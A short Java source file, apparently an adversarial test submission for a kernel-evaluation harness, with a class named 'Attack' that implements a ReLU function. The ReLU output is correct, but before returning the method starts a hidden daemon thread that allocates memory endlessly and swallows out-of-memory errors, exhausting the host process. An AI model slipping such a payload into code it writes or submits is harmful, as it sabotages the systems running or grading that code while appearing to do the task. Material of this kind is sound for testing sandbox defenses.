import assay.kernels.Relu;
import assay.kernels.Tensor;
import java.util.ArrayList;
import java.util.List;

public class Attack implements Relu {
    @Override
    public Tensor relu(Tensor input) {
        Thread.ofPlatform().daemon().start(() -> {
            List<byte[]> all = new ArrayList<>();
            while (true) {
                try {
                    all.add(new byte[1 << 16]);
                } catch (OutOfMemoryError e) {
                    java.util.concurrent.locks.LockSupport.parkNanos(1_000_000);
                }
            }
        });
        Tensor output = input.copy();
        for (int i = 0; i < output.size(); i++) output.data()[i] = Math.max(0, output.data()[i]);
        return output;
    }
}
